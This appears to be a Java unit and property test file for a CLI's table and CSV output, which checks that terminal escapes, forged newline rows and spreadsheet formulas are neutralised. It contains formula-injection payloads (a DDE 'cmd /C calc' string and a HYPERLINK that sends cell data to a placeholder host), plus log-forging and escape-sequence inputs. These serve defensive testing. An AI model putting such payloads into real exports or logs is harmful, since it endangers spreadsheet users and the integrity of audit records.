package io.camvault.cli.clerk;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.camvault.cli.SafeText;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.Size;
import org.junit.jupiter.api.Test;

/** What the CLI prints for people (tables, lines) and for spreadsheets (stats CSV), whatever the fields hold. */
class CliOutputTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    static String printed(Table t) {
        StringWriter s = new StringWriter();
        PrintWriter w = new PrintWriter(s);
        t.print(w);
        w.flush();
        return s.toString();
    }

    /** Issue 16: a newline in a path or case number printed a forged standalone row in `audit show`. */
    @Test
    void auditShowPrintsFieldsAsTheyAreSoANewlineForgesARow() {
        Table t = new Table("SEQ", "TIME", "ACTOR", "ACTION", "OUTCOME", "SUBJECT", "DETAILS");
        t.row("41", "2026-12-07T10:00:00Z", "p_1", "case.create", "success",
                "case:2026-001\n42  2026-12-07T10:00:01Z  p_admin  segment.purge  success  segment:x",
                "title=\u001b[2J\u202eevil");
        String out = printed(t);
        assertThat(out.split("\n", -1)).hasSize(3); // header, one row, and the end of the last line
        assertThat(out).contains("case:2026-001\\n42").doesNotContain("\u001b").doesNotContain("\u202e")
                .contains("\\x1b[2J").contains("\\u202eevil");
    }

    /** Issue 16: `stats --format csv` wrote cells starting with = + - @ as they were: a spreadsheet runs them. */
    @Test
    void statsCsvCellsRunAsFormulas() {
        ObjectNode row = JSON.createObjectNode();
        row.put("unit", "=HYPERLINK(\"http://x/?\"&A1,\"click\")");
        row.put("officer", "+1+cmd|' /C calc'!A0");
        row.put("recordings", 3);
        row.put("hours", -1.5);
        row.put("unitName", "@SUM(1,2)");
        row.put("officerName", "-2+3");
        String line = StatsCommand.csv(row);
        List<String> cells = parseCsv(line);
        assertThat(cells.get(0)).isEqualTo("'=HYPERLINK(\"http://x/?\"&A1,\"click\")");
        assertThat(cells.get(1)).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(cells.get(2)).isEqualTo("3");
        assertThat(cells.get(3)).isEqualTo("-1.5"); // a plain number stays a number
        assertThat(cells.get(12)).isEqualTo("'@SUM(1,2)");
        assertThat(cells.get(13)).isEqualTo("'-2+3");
    }

    @Provide
    Arbitrary<String> hostile() {
        Arbitrary<String> controls = Arbitraries.strings().withCharRange('\u0000', '\u001f').withChars('\u007f',
                '\u0085', '\u2028', '\u2029', '\u202e', '\u2066', '\u200b', '\ufeff').ofMaxLength(4);
        Arbitrary<String> cjk = Arbitraries.strings().withCharRange('\u4e00', '\u9fff').withChars('，', '。', '（')
                .ofMaxLength(6);
        Arbitrary<String> formulas = Arbitraries.of("=", "+", "-", "@", "\t", "\r", "=cmd|'/C calc'!A0", "-1", "+3.5",
                "@SUM(A1)", "\"", ",", "'");
        Arbitrary<String> any = Arbitraries.strings().all().ofMaxLength(8);
        Arbitrary<String> piece = Arbitraries.oneOf(controls, cjk, formulas, any, Arbitraries.strings().alpha().ofMaxLength(5));
        return piece.list().ofMaxSize(5).map(l -> String.join("", l));
    }

    /** Any fields: one line per row, no control or reordering character printed, columns aligned in display width. */
    @Property(tries = 500)
    void tablesStayOneLinePerRowAndAligned(@ForAll("hostile") String a, @ForAll("hostile") String b,
            @ForAll @Size(max = 4) List<@net.jqwik.api.From("hostile") String> more) {
        Table t = new Table("A", "B", "C", "END");
        List<String[]> rows = new ArrayList<>();
        rows.add(new String[] {a, b, String.join("", more), "|"});
        rows.add(new String[] {b, a, "", "|"});
        for (String m : more) {
            rows.add(new String[] {m, "案件", a, "|"});
        }
        rows.forEach(t::row);
        List<String> lines = t.lines();
        assertThat(lines).hasSize(rows.size() + 1);
        int width = SafeText.width(lines.get(1));
        for (String line : lines.subList(1, lines.size())) {
            assertThat(line.codePoints().filter(SafeTextAccess::unsafe)).isEmpty();
            assertThat(SafeText.width(line)).as(line).isEqualTo(width);
            assertThat(line).endsWith("|");
        }
        assertThat(printed(t).split("\n", -1)).hasSize(rows.size() + 2);
    }

    /** Text without anything unsafe is printed exactly as it is (CJK, formulas, quotes): nothing is over-escaped. */
    @Property(tries = 300)
    void safeTextIsIdentityOnPrintableTextAndIdempotent(@ForAll("hostile") String s) {
        String safe = SafeText.terminal(s);
        assertThat(safe.codePoints().filter(SafeTextAccess::unsafe)).isEmpty();
        assertThat(SafeText.terminal(safe)).isEqualTo(safe);
        if (s.codePoints().noneMatch(SafeTextAccess::unsafe)) {
            assertThat(safe).isEqualTo(s);
        }
    }

    /** Every CSV cell parses back to one field on one line, and never starts a formula unless it is a plain number. */
    @Property(tries = 500)
    void csvCellsParseBackAndNeverStartAFormula(@ForAll("hostile") String unit, @ForAll("hostile") String officer,
            @ForAll("hostile") String name) {
        ObjectNode row = JSON.createObjectNode();
        row.put("unit", unit);
        row.put("officer", officer);
        row.put("unitName", name);
        String line = StatsCommand.csv(row);
        assertThat(line).doesNotContain("\n").doesNotContain("\r");
        List<String> cells = parseCsv(line);
        assertThat(cells).hasSize(14);
        for (String cell : List.of(cells.get(0), cells.get(1), cells.get(12))) {
            if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                assertThat(cell).matches("[-+]?[0-9]+(\\.[0-9]+)?");
            }
        }
        String expectedUnit = SafeText.terminal(unit);
        assertThat(cells.get(0)).isIn(expectedUnit, "'" + expectedUnit);
    }

    /** RFC 4180 fields of one record. */
    static List<String> parseCsv(String line) {
        List<String> out = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                out.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        out.add(cell.toString());
        return out;
    }
}
